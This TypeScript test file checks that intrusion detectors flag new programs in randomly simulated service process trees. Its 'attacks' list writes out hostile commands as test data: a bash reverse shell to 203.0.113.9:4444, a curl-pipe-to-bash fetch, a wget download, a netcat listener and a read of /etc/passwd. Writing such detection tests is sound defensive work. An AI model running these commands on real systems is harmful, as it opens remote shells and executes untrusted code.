/** New programs where chance decides what the sensor sees: services made at random, taught for a minute, then judged at a tenth to ten times their size. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Case, Detector, Program, Stream } from '#contract';
import { interactiveShell } from '../../detectors/interactive-shell/detector.ts';
import { newProgram } from '../../detectors/new-program/detector.ts';
import { programOrigin } from '../../detectors/program-origin/detector.ts';
import { init, iso, processLine, programAt } from '../../detectors/sightings.ts';
import { seeded } from '../support/flood.ts';
import { runWhole } from '../support/run-case.ts';

interface Sight {
  /** Chance that a process of some milliseconds is read in `/proc`, and that the opening of its file is seen otherwise. */
  read: number;
  opened: number;
  /** Whether executables of others can be read. */
  hasPaths: boolean;
}

interface Step {
  program: string;
  words: string[];
  /** Lives for 20 ms and more, as interpreters do, and is nearly always read. */
  isLong?: boolean;
  streams?: [Stream, Stream, Stream];
  steps?: Step[];
}

const step = (program: string, words: string[] = [], steps: Step[] = []): Step => ({ program, words: [program.slice(program.lastIndexOf('/') + 1), ...words], steps });
const long = (program: string, words: string[] = []): Step => ({ ...step(program, words), isLong: true });
const longRead = 0.96;
const sh = (...words: string[]): string[] => words;

/** Jobs that services have; each story takes some of them. */
const jobs: readonly (readonly [starter: 'application' | 'outside', Step])[] = [
  ['application', step('/usr/bin/dash', sh('/app/clean.sh'), [step('/usr/bin/find', ['/var/cache', '-mtime', '+1']), step('/usr/bin/rm', ['-f', 'x']), step('/usr/bin/gzip', ['-9', 'access.log.3']), step('/usr/bin/date')])],
  ['application', step('/usr/bin/dash', sh('-c', 'df -h | tail -1'), [step('/usr/bin/df', ['-h']), step('/usr/bin/tail', ['-1'])])],
  ['outside', step('/usr/bin/dash', sh('-c', 'curl -fsS http://127.0.0.1:8080/health || exit 1'), [step('/usr/bin/curl', ['-fsS', 'http://127.0.0.1:8080/health'])])],
  ['application', step('/usr/bin/bash', sh('/app/backup.sh'), [step('/usr/bin/tar', ['-cf', 'b.tar', '/app/store']), step('/usr/bin/sha256sum', ['b.tar']), step('/usr/bin/mv', ['b.tar', 'c'])])],
  ['application', long('/usr/local/bin/convert', ['in.png', 'out.jpg'])],
  ['outside', long('/usr/bin/python3.11', ['/app/probe.py'])],
  ['application', long('/usr/bin/python3.11', ['-c', 'from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)'])],
  ['application', step('/usr/bin/dash', sh('-c', 'uname -r; id -u'), [step('/usr/bin/uname', ['-r']), step('/usr/bin/id', ['-u'])])],
];

const application = { program: '/usr/bin/python3.11', words: ['python3.11', '/app/server.py'] };

interface Story {
  random: () => number;
  sight: Sight;
  records: string[];
  pid: number;
}

const shown = (path: string, { hasPaths }: Sight): Program => (hasPaths ? programAt(path) : programAt('', path.slice(path.lastIndexOf('/') + 1).slice(0, 15)));

/** A step and those it takes, as the sensor happens to see them. */
function run(story: Story, second: number, { program, words, steps = [], isLong = steps.length > 1, streams }: Step, parents: string[]): void {
  const { random, sight, records } = story;
  story.pid += 1;
  const lineage = [...parents.map((path) => shown(path, sight)), ...(parents.length > 0 ? [shown('/pause', sight)] : [])];
  // What waits for others lives as long as they do.
  if (random() < (isLong ? Math.max(longRead, sight.read) : steps.length > 0 ? 1 - (1 - sight.read) ** 2 : sight.read)) {
    records.push(processLine(second, { ...(streams === undefined ? {} : { streams }), pid: story.pid, program: shown(program, sight), arguments: words, lineage, executable: sight.hasPaths ? 'file' : 'unknown' }));
  } else if (random() < sight.opened) {
    records.push(processLine(second, { pid: 0, program: programAt(program), arguments: [], lineage: [], foundBy: 'open', userId: -1, realUserId: -1, parentUserId: -1, executable: 'unknown' }));
  }
  let at = second;
  for (const one of steps) run(story, (at += 0.01), one, [program, ...parents]);
}

function ordinaryStory(seed: number, sight: Sight): { story: Story } {
  const random = seeded(seed);
  const story: Story = { random, sight, records: [], pid: 100 };
  const chosen = jobs.filter(() => random() < 0.6);
  story.records.push(
    processLine(0, { pid: 10, program: shown(application.program, sight), arguments: application.words, lineage: [shown(init.path, sight)], executable: sight.hasPaths ? 'file' : 'unknown' }),
    processLine(0.1, { pid: 11, program: shown(application.program, sight), arguments: application.words, lineage: [shown(application.program, sight), shown(init.path, sight)], executable: sight.hasPaths ? 'file' : 'unknown' }),
  );
  // Each is done one to twelve times while it is taught, then at a tenth to ten times that.
  for (const [starter, job] of chosen) {
    const parents = starter === 'application' ? [application.program] : [];
    const times = 1 + Math.floor(random() * 12);
    for (let turn = 0; turn < times; turn += 1) run(story, 1 + random() * 58, job, parents);
    const later = Math.max(1, Math.round(times * (0.1 + random() * 9.9)));
    for (let turn = 0; turn < later; turn += 1) run(story, 61 + random() * 58, job, parents);
  }
  return { story };
}

const attacks: readonly Step[] = [
  step('/usr/bin/bash', ['-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']),
  step('/usr/bin/dash', ['-c', 'id; whoami; hostname; cat /etc/passwd'], [step('/usr/bin/id'), step('/usr/bin/whoami'), step('/usr/bin/hostname'), step('/usr/bin/cat', ['/etc/passwd'])]),
  step('/usr/bin/wget', ['-q', 'http://203.0.113.9/a']),
  step('/usr/bin/python3.11', ['-c', 'import socket,subprocess']),
  step('/var/tmp/.kw', []),
  step('/usr/bin/dash', ['-c', 'curl -s http://203.0.113.9/i | bash'], [step('/usr/bin/curl', ['-s', 'http://203.0.113.9/i']), { ...step('/usr/bin/bash'), streams: ['pipe', 'pipe', 'pipe'] }]),
  step('/usr/bin/nc.openbsd', ['-l', '4444']),
  step('/usr/bin/gcc', ['a.c']),
  step('/usr/bin/apt-get', ['install', 'nmap']),
  step('/usr/bin/dash', ['-c', 'ps aux; netstat -an'], [step('/usr/bin/ps', ['aux']), step('/usr/bin/netstat', ['-an'])]),
];

/** What new-program says of the records, or what it and its neighbours do. */
function alertsOf(records: string[], detectors: readonly Detector[] = [newProgram as Detector]): ReturnType<typeof runWhole> {
  const story: Case = { title: '', records, teachUntil: iso(60), fires: [] };
  return detectors.flatMap((detector) => runWhole(detector, story));
}

const together: readonly Detector[] = [newProgram as Detector, programOrigin as Detector, interactiveShell as Detector];

/** How many services of `services` were falsely alarmed about, and how many attacks were missed. */
function play(sight: Sight, services: number): { falsely: string[]; missed: string[]; attacks: number } {
  const falsely: string[] = [];
  const missed: string[] = [];
  let count = 0;
  for (let seed = 1; seed <= services; seed += 1) {
    const { story } = ordinaryStory(seed, sight);
    const taught = story.records.filter((record) => (JSON.parse(record) as { timeMs: number }).timeMs < Date.parse(iso(60)));
    falsely.push(...alertsOf(story.records, together).map(({ title }) => `${seed}: ${title}`));
    for (const [at, attack] of attacks.entries()) {
      // Each attack alone, so that what it sets off is its own; one in three is enough for the figure.
      if ((seed + at) % 3 !== 0) continue;
      const under: Story = { ...story, records: taught.slice() };
      // Attacks live for seconds, or run several programs.
      run({ ...under, sight: { ...sight, read: 0.98 } }, 100, attack, [application.program]);
      count += 1;
      if (!together.some((detector) => alertsOf(under.records, [detector]).length > 0)) missed.push(`${seed}: ${attack.words.join(' ')}`);
    }
  }
  return { falsely, missed, attacks: count };
}

for (const [title, sight, share] of [
  ['where files that are opened are seen too', { read: 0.5, opened: 0.98, hasPaths: true }, 0.95],
  ['where four of five short processes are read', { read: 0.8, opened: 0.98, hasPaths: true }, 0.95],
  ['where executables of others cannot be read', { read: 0.4, opened: 0, hasPaths: false }, 0.85],
] as const) {
  describe(`new programs, ${title}`, () => {
    it(`are told ${share * 100} times of 100, and what was taught never is`, () => {
      const { falsely, missed, attacks: played } = play(sight, 8);
      assert.ok(played > 20);
      assert.deepEqual(falsely, []);
      assert.ok(missed.length <= (1 - share) * played, `missed ${missed.length} of ${played}:\n${missed.join('\n')}`);
    });
  });
}
